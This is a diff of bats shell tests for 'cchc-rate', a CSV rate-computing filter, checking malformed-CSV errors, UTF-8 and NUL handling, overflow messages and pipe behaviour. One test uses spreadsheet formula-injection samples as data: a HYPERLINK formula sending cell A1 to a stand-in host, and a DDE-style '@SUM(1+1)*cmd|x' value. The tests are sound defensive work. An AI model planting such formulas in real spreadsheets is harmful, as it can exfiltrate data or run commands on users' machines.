@@ -87,7 +87,7 @@ ERR
 }
 
 @test "rate: /dev/full, --help, --version" {
-	[ -w /dev/full ] || skip "no /dev/full"
+	[ -c /dev/full ] && [ -w /dev/full ] || skip "no /dev/full device"
 	printf 'a,b\n1,2\n' > "$T/x.csv"
 	run --separate-stderr sh -c "cchc-rate r=a/b '$T/x.csv' > /dev/full"
 	assert_failure 2
@@ -96,4 +96,137 @@ ERR
 	assert_line --index 0 "usage: cchc-rate [-p DIGITS] [NAME=EXPR]... [FILE]..."
 	run cchc-rate --version
 	assert_output --regexp '^cchc-rate [0-9.]+$'
+}
+
+# Finding 01 for cchc-rate: a header whose quote never closes swallowed the
+# whole table, exit 0 and a header line with nothing under it.
+@test "rate: a syntax error in a header is exit 2 naming the file, line and character" {
+	printf 'cap,da_giai_quyet,gq_truoc_han,gq_dung_han,"ghi chu\ntinh,10,5,3,x\nxa,4,1,1,y\n' > "$T/open.csv"
+	run --separate-stderr cchc-rate "$T/open.csv"
+	assert_failure 2
+	assert_output ""
+	assert_equal "$stderr" "cchc-rate: $T/open.csv:1: header: malformed CSV in field 5: quote never closed: the field runs to the end of the file"
+	printf 'cap,a,ghi "chu"\ntinh,1,x\n' > "$T/stray.csv"
+	run --separate-stderr cchc-rate r=a/a "$T/stray.csv"
+	assert_failure 2
+	assert_output ""
+	assert_equal "$stderr" "cchc-rate: $T/stray.csv:1: header: malformed CSV at character 11: quote inside an unquoted field"
+	# in a later file: what came before is written, the job is not done (exit 2)
+	printf 'cap,a,b\ntinh,1,2\n' > "$T/one.csv"
+	printf '\n\ncap,a,"b\nxa,1,2\n' > "$T/two.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/two.csv"
+	assert_failure 2
+	assert_output $'cap,a,b,r\ntinh,1,2,50.00'
+	assert_equal "$stderr" "cchc-rate: $T/two.csv:3: header: malformed CSV in field 3: quote never closed: the field runs to the end of the file"
+	# a later header that is not text, or not the first's
+	printf 'cap,\377,b\nxa,1,2\n' > "$T/bad.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/bad.csv"
+	assert_failure 2
+	assert_equal "$stderr" "cchc-rate: $T/bad.csv:1: header: a UTF-8 character is cut short at the end of the field: \"\\xff\""
+	printf 'cap,b,a\nxa,1,2\n' > "$T/swap.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/one.csv" "$T/swap.csv"
+	assert_failure 2
+	assert_equal "$stderr" "cchc-rate: $T/swap.csv:1: the header is not the first file's"
+	# a first header that is not UTF-8: exit 2 (and nothing leaks: the sanitizer build agrees)
+	printf 'cap,a,b\xe0c\nxa,1,2\n' > "$T/h8.csv"
+	run --separate-stderr cchc-rate r=a/a "$T/h8.csv"
+	assert_failure 2
+	[[ "$stderr" == "cchc-rate: $T/h8.csv:1: header: not UTF-8; a legacy Vietnamese file converts with iconv -f CP1258"* ]]
+}
+
+@test "rate: a syntax error in a data row is a row problem (exit 1): reported, the row left out" {
+	printf 'cap,a,b\ntinh,1,2\nxa,1"0,2\nhuyen,3,4\n"q,1,2\n' > "$T/r.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/r.csv"
+	assert_failure 1
+	assert_output $'cap,a,b,r\ntinh,1,2,50.00\nhuyen,3,4,75.00'
+	assert_equal "$stderr" "cchc-rate: $T/r.csv:3: malformed CSV at character 5: quote inside an unquoted field
+cchc-rate: $T/r.csv:5: malformed CSV in field 1: quote never closed: the field runs to the end of the file"
+}
+
+# Finding 15 (f): the message blamed an operand when the sum was too large.
+@test "rate: a sum past the largest count is said to be the sum, naming its terms and values" {
+	printf 'a,b,c\nx,9223372036854775807,1\ny,9223372036854775807,9223372036854775807\nz,1,0\nw,0,0\nv,5,-0\nu,1 000,3\nt,9223372036854775807,1\ns,9223372036854775808,1\n' > "$T/big.csv"
+	run --separate-stderr cchc-rate 'r2=b+b/c' "$T/big.csv"
+	assert_failure 1
+	assert_output $'a,b,c,r2\nx,9223372036854775807,1,\ny,9223372036854775807,9223372036854775807,\nz,1,0,\nw,0,0,\nv,5,-0,\nu,1 000,3,66666.67\nt,9223372036854775807,1,\ns,9223372036854775808,1,'
+	assert_equal "$stderr" "cchc-rate: $T/big.csv:2: b+b: sum too large (for r2): \"9223372036854775807+9223372036854775807\" (3 rows)
+cchc-rate: $T/big.csv:9: b: number too large (for r2): \"9223372036854775808\""
+	run --separate-stderr cchc-rate 'r=b/c+c' 'q=b/b' "$T/big.csv"
+	assert_failure 1
+	assert_line --index 2 "y,9223372036854775807,9223372036854775807,,100.00"
+	assert_line --index 1 "x,9223372036854775807,1,461168601842738790350.00,100.00"
+	assert_equal "$(printf '%s\n' "$stderr" | head -n 1)" "cchc-rate: $T/big.csv:3: c+c: sum too large (for r): \"9223372036854775807+9223372036854775807\""
+}
+
+@test "rate: the same problem with the same value is said once, on its first line, with the number of rows" {
+	{ printf 'k,a,b\n'; for i in $(seq 1 40); do printf 'g%d,abc,2\n' "$i"; done
+	  printf 'h,1.5,2\nh2,abc,x\nh3,1,2,3\nh4,1,2,3\n'; } > "$T/m.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/m.csv"
+	assert_failure 1
+	assert_equal "${#lines[@]}" 43
+	assert_equal "$stderr" "cchc-rate: $T/m.csv:2: a: not a number (for r): \"abc\" (41 rows)
+cchc-rate: $T/m.csv:42: a: a count has no fraction (for r): \"1.5\"
+cchc-rate: $T/m.csv:44: expected 3 fields, found 4 (2 rows)"
+	# said per file, at its end, in the order of the files
+	cp "$T/m.csv" "$T/n.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/m.csv" "$T/n.csv"
+	assert_failure 1
+	assert_equal "$(printf '%s\n' "$stderr" | sed 's/^cchc-rate: \([^:]*:[0-9]*\):.*/\1/' | paste -sd' ')" "$T/m.csv:2 $T/m.csv:42 $T/m.csv:44 $T/n.csv:2 $T/n.csv:42 $T/n.csv:44"
+}
+
+@test "rate: a row that is not UTF-8 or holds a NUL is reported and left out: the output is UTF-8" {
+	printf 'k,a,b\nH\xe0 N\xf4i,1,2\nx,1,2\ny\000z,1,2\nH\xe0 N\xf4i,3,4\n' > "$T/u.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/u.csv"
+	assert_failure 1
+	assert_output $'k,a,b,r\nx,1,2,50.00'
+	assert_equal "$stderr" "cchc-rate: $T/u.csv:2: k: not UTF-8; a legacy Vietnamese file converts with iconv -f CP1258 -t UTF-8 (or -f TCVN5712-1): \"H\\xe0 N\\xf4i\" (2 rows)
+cchc-rate: $T/u.csv:4: k: a NUL byte in the text: \"y\\x00z\""
+}
+
+# The project's decision (cchc-rate(1), cchc(7) SPREADSHEETS): cchc-rate is a
+# data filter; a value that a spreadsheet would run passes through unchanged.
+@test "rate: formula-leading values pass through unchanged, byte for byte" {
+	printf 'co_quan,a,b\n"=HYPERLINK(""http://x.example/?""&A1,""Sở"")",1,2\n@SUM(1+1)*cmd|x,1,4\n+1,1,1\n-x,0,1\n' > "$T/f.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/f.csv"
+	assert_success
+	assert_output - <<'OUT'
+co_quan,a,b,r
+"=HYPERLINK(""http://x.example/?""&A1,""Sở"")",1,2,50.00
+@SUM(1+1)*cmd|x,1,4,25.00
++1,1,1,100.00
+-x,0,1,0.00
+OUT
+}
+
+@test "rate: standard input once, a NAME once; BOM, CRLF, a header alone, an empty file; | head is never 0" {
+	printf 'a,b\n1,2\n' > "$T/x.csv"
+	run --separate-stderr cchc-rate r=a/b - - < "$T/x.csv"
+	assert_failure 2
+	assert_output ""
+	assert_equal "$stderr" "cchc-rate: -: standard input is named twice (it can be read once)"
+	run --separate-stderr cchc-rate r=a/b R=b/a "$T/x.csv"
+	assert_failure 2
+	assert_equal "$stderr" "cchc-rate: R=b/a: this NAME is given twice: a column has one name
+  R=b/a
+  ^"
+	run --separate-stderr cchc-rate ' _=a/b' "$T/x.csv"
+	assert_failure 2
+	[[ "$stderr" == "cchc-rate:  _=a/b: the NAME is not a column name"* ]]
+	printf '\357\273\277a,b\r\n1,2\r\n3,4\r\n' > "$T/bom.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/bom.csv"
+	assert_success
+	assert_output $'a,b,r\n1,2,50.00\n3,4,75.00'
+	printf 'a,b\n' > "$T/h.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/h.csv"
+	assert_success
+	assert_output "a,b,r"
+	: > "$T/e.csv"
+	run --separate-stderr cchc-rate r=a/b "$T/e.csv"
+	assert_failure 2
+	assert_equal "$stderr" "cchc-rate: $T/e.csv: empty file: no header line"
+	{ printf 'a,b\n'; seq 1 200000 | sed 's/$/,7/'; } > "$T/big.csv"
+	run bash -c "cchc-rate r=a/b '$T/big.csv' | head -n 2; echo \${PIPESTATUS[0]}"
+	assert_output $'a,b,r\n1,7,14.29\n141'
+	run bash -c "trap '' PIPE; cchc-rate r=a/b '$T/big.csv' | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
+	assert_output "141"
 }
